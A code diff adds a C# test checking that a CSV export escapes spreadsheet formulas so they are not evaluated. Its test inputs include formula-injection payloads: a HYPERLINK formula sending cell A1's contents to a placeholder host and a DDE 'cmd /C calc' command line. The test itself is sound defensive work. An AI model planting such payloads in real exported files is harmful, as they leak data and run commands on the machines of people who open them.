@@ -42,6 +42,26 @@ public sealed class NativeExportTests
     }
 
     [Theory]
+    [InlineData("=1+2", "'=1+2")]
+    [InlineData("=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://192.0.2.1/?\"\"&A1,\"\"x\"\")\"")]
+    [InlineData("@SUM(A1)", "'@SUM(A1)")]
+    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
+    [InlineData("-2+3", "'-2+3")]
+    [InlineData("\t=1", "'\t=1")]
+    [InlineData("+6561234567", "+6561234567")]
+    [InlineData("a\r\nb", "\"a\r\nb\"")]
+    [InlineData("O'Neil; x", "O'Neil; x")]
+    public async Task Csv_holds_nothing_that_a_spreadsheet_works_out(string tag, string cell)
+    {
+        await using var server = await NativeServer.StartAsync();
+        await EndAsync(server, "demo", tag);
+
+        var answer = await server.GetAsync($"{Export}?format=csv");
+
+        Assert.EndsWith($",{cell}\r\n", answer.Text, StringComparison.Ordinal);
+    }
+
+    [Theory]
     [InlineData("since=2026-01-31T08:00:00Z&until=2026-01-31T08:00:01Z", 1)]
     [InlineData("since=2026-01-31T08:00:01Z", 0)]
     [InlineData("until=2026-01-31T08:00:00Z", 0)]
